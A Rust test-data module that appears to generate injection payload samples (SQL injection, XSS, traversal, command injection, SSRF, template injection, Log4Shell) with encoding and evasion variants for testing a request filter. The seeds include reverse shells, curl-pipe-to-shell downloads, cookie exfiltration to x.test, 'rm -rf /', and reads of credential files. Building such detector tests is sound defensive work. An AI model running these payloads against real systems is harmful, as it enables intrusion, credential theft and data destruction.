//! Seeds of each class, as they are found in every collection of such, times the ways in which they come.

use percent_encoding::{NON_ALPHANUMERIC, utf8_percent_encode};
use quorumgate_model::resource::InjectionClass::{self, *};
use serde_json::json;

use super::Sample;

const SEEDS: &[(InjectionClass, &[&str])] = &[
    (
        Sqli,
        &[
            "' OR '1'='1",
            "' OR 1=1--",
            "\" OR \"\"=\"",
            "1 OR 1=1",
            "admin'--",
            "admin' #",
            "') OR ('a'='a",
            "1' ORDER BY 3--",
            "1 UNION SELECT NULL,NULL,NULL",
            "-1' UNION ALL SELECT username, password FROM users--",
            "1; DROP TABLE users",
            "'; DROP TABLE accounts; --",
            "1'; WAITFOR DELAY '0:0:5'--",
            "1 AND SLEEP(5)",
            "' AND SLEEP(5) AND 'a'='a",
            "1; SELECT pg_sleep(10)--",
            "1 AND (SELECT COUNT(*) FROM information_schema.tables)>0",
            "' AND extractvalue(1, concat(0x7e, (SELECT version())))--",
            "1 AND updatexml(1,concat(0x7e,user()),1)",
            "' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--",
            "'; EXEC xp_cmdshell('dir')--",
            "1 AND 1=2 UNION SELECT 1,@@version",
            "' OR 'x' LIKE '%x%",
            "x' AND email IS NULL; --",
            "1 INTO OUTFILE '/var/www/a.php'",
            "' || (SELECT utl_http.request('http://x.test') FROM dual) || '",
            "benchmark(10000000,MD5(1))",
            "1' HAVING 1=1--",
            "1) OR (1=1",
            "' UNION SELECT load_file('/etc/passwd')--",
            "1 UNION(SELECT(password)FROM(users))",
            "1 UNION ALL(SELECT 1,2,user())",
            "1e0UNION SELECT password FROM users",
            "\\NUNION SELECT password AS a FROM users",
            "' OR `id`=`id`",
            "1 OR `id`=`id`",
            "` OR 1=1",
        ],
    ),
    (
        Xss,
        &[
            "<script>alert(1)</script>",
            "<script src=//x.test/a.js></script>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=confirm(1)>",
            "<body onload=alert('x')>",
            "\"><script>alert(document.cookie)</script>",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=alert(1) x=\"",
            "javascript:alert(1)",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "<math><mtext><img src=1 onerror=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<input autofocus onfocus=alert(1)>",
            "<video><source onerror=\"alert(1)\">",
            "';alert(1)//",
            "\";alert(document.domain);//",
            "'-alert(1)-'",
            "<marquee onstart=alert(1)>",
            "<form action=javascript:alert(1)><input type=submit>",
            "<button formaction=javascript:alert(1)>x",
            "<embed src=\"javascript:alert(1)\">",
            "<style>@import 'javascript:alert(1)';</style>",
            "<div style=\"width: expression(alert(1))\">",
            "<script>fetch('//x.test/?c='+document.cookie)</script>",
            "<link rel=stylesheet href=//x.test/a.css>",
            "</textarea><img src=x onerror=prompt(1)>",
        ],
    ),
    (
        Traversal,
        &[
            "../../../etc/passwd",
            "../../../../../../etc/shadow",
            "..\\..\\..\\windows\\win.ini",
            "/etc/passwd",
            "/var/www/../../etc/passwd",
            "....//....//....//etc/passwd",
            "..;/..;/manager/html",
            "file:///etc/passwd",
            "/proc/self/environ",
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
            "C:/boot.ini",
            "../../.ssh/id_rsa",
            "/root/.ssh/id_rsa",
            "php://filter/convert.base64-encode/resource=index.php",
            "../../../WEB-INF/web.xml",
            "/WEB-INF/web.xml",
            "../../.env",
            "/.git/config",
            "../../../../var/log/apache2/access.log",
            "images/../../../../etc/hosts",
            "..\\..\\..\\..\\boot.ini",
            "/home/user/.aws/credentials",
            "../../../inetpub/wwwroot/web.config",
            "../../../../../../../../proc/self/cmdline",
            "/../../../../etc/group",
        ],
    ),
    (
        Command,
        &[
            "; cat /etc/passwd",
            "| cat /etc/passwd",
            "&& whoami",
            "; id",
            "|id",
            "$(whoami)",
            "`whoami`",
            "; ls -la /",
            "| ls",
            "127.0.0.1; ping -c 10 127.0.0.1",
            "& ping -n 10 127.0.0.1 &",
            "; sleep 10",
            "$(sleep 10)",
            "`sleep 10`",
            "; wget http://x.test/a.sh -O /tmp/a.sh",
            "| curl http://x.test/a | sh",
            "; nc -e /bin/sh 10.0.0.1 4444",
            "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "&& dir c:\\",
            "| type c:\\windows\\win.ini",
            "; uname -a",
            "a;rm -rf /",
            "() { :;}; /bin/bash -c 'cat /etc/passwd'",
            "; python -c 'import os'",
            "|| nslookup x.test",
            "& net user",
            "; powershell -enc AAAA",
            "x; cat${IFS}/etc/passwd",
            "; c'a't /etc/passwd",
            "cmd.exe /c whoami",
        ],
    ),
    (
        Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "http://127.0.0.1/admin",
            "http://localhost/server-status",
            "http://localhost:22/",
            "http://127.0.0.1:6379/",
            "http://[::1]/",
            "http://0.0.0.0:80/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://0177.0.0.1/",
            "http://127.1/",
            "gopher://127.0.0.1:6379/_INFO",
            "dict://127.0.0.1:11211/stats",
            "file:///etc/hosts",
            "ldap://127.0.0.1/a",
            "http://192.168.0.1/admin",
            "http://10.0.0.1/login",
            "https://x.test@169.254.169.254/",
            "http://127.0.0.1.nip.io/",
            "http://localtest.me/",
            "http://kubernetes.default.svc/",
            "http://100.100.100.200/latest/meta-data/",
            "jar:http://127.0.0.1!/a",
            "http://[::ffff:127.0.0.1]/",
            "//169.254.169.254/latest/user-data",
        ],
    ),
    (
        Template,
        &[
            "{{7*7}}",
            "{{7*'7'}}",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "*{7*7}",
            "@(7*7)",
            "{{config}}",
            "{{config.items()}}",
            "{{self.__init__.__globals__.__builtins__}}",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            "{{request.application.__globals__}}",
            "{{constructor.constructor('alert(1)')()}}",
            "{% import os %}{{ os.popen('id').read() }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }",
            "<%= system('id') %>",
            "<%= File.open('/etc/passwd').read %>",
            "#set($x='') $x.class.forName('java.lang.Runtime')",
            "{php}echo `id`;{/php}",
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
            "{{ lipsum.__globals__['os'].popen('id').read() }}",
            "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
            "{{ [].__class__.__base__.__subclasses__() }}",
        ],
    ),
    (
        Log4shell,
        &[
            "${jndi:ldap://x.test/a}",
            "${jndi:rmi://x.test:1099/a}",
            "${jndi:dns://x.test/a}",
            "${jndi:ldaps://x.test/a}",
            "${jndi:iiop://x.test/a}",
            "${${lower:j}ndi:ldap://x.test/a}",
            "${${lower:j}${lower:n}${lower:d}i:${lower:l}dap://x.test/a}",
            "${${upper:j}ndi:rmi://x.test/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x.test/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.test/a}",
            "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://x.test/a}",
            "${jndi:${lower:l}${lower:d}ap://x.test/a}",
            "${ jndi:ldap://x.test/a }",
            "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.x.test/a}",
            "Mozilla/5.0 ${jndi:ldap://x.test/a}",
        ],
    ),
];

/// What stands for a blank in SQL and ends a line.
const LINES: [(&str, &str); 3] =
    [("with comments behind dashes", "-- x\n"), ("with comments behind #", "#y\r\n"), ("with lines for blanks", "\n")];

fn sample(uri: String) -> Sample {
    Sample { uri, fields: Vec::new(), body: None }
}

fn with_body(kind: &'static str, body: String) -> Sample {
    Sample { uri: "/api/items".into(), fields: Vec::new(), body: Some((kind, body)) }
}

fn encoded(text: &str) -> String {
    utf8_percent_encode(text, NON_ALPHANUMERIC).to_string()
}

fn flipped(text: &str) -> String {
    let flip = |(place, c): (usize, char)| if place % 2 == 0 { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
    text.chars().enumerate().map(flip).collect()
}

fn entities(text: &str) -> String {
    let entity = |c: char| if "<>'\"(){}$/".contains(c) { format!("&#x{:x};", c as u32) } else { c.to_string() };
    text.chars().map(entity).collect()
}

fn spaced(class: InjectionClass, text: &str) -> String {
    text.replace(' ', if class == Sqli { "/**/" } else { "\t" })
}

/// A value in the query, in JSON, and in a form.
pub(super) fn ways(text: &str) -> [Sample; 3] {
    let form = format!("id={}", encoded(text).replace("%20", "+"));
    [
        sample(format!("/items?id={}", encoded(text))),
        with_body("application/json", json!({"id": text}).to_string()),
        with_body("application/x-www-form-urlencoded", form),
    ]
}

/// The class, the seed, how it comes, and the request.
pub(super) fn all() -> Vec<(InjectionClass, &'static str, &'static str, Sample)> {
    let mut all = Vec::new();
    for (class, seeds) in SEEDS {
        for seed in *seeds {
            let mut add = |how, sample| all.push((*class, *seed, how, sample));
            add("in the query", sample(format!("/search?page=2&q={}", encoded(seed))));
            add("encoded twice", sample(format!("/search?q={}", encoded(&encoded(seed)))));
            add(
                "in a form",
                with_body("application/x-www-form-urlencoded", format!("a=1&b={}", encoded(seed).replace("%20", "+"))),
            );
            add("in JSON", with_body("application/json", json!({"user": {"name": seed, "age": 7}}).to_string()));
            add("in other case", with_body("application/json", json!([{"x": flipped(seed)}]).to_string()));
            add("with other spaces", with_body("application/json", json!({"x": spaced(*class, seed)}).to_string()));
            add("as entities", with_body("application/json", json!({"x": entities(seed)}).to_string()));
            if *class == Sqli {
                for (how, blank) in LINES {
                    add(how, with_body("application/json", json!({"x": seed.replace(' ', blank)}).to_string()));
                }
            }
            let fields = vec![("x-note", (*seed).to_owned())];
            add("in a field", Sample { fields, ..sample("/".into()) });
        }
    }
    all
}
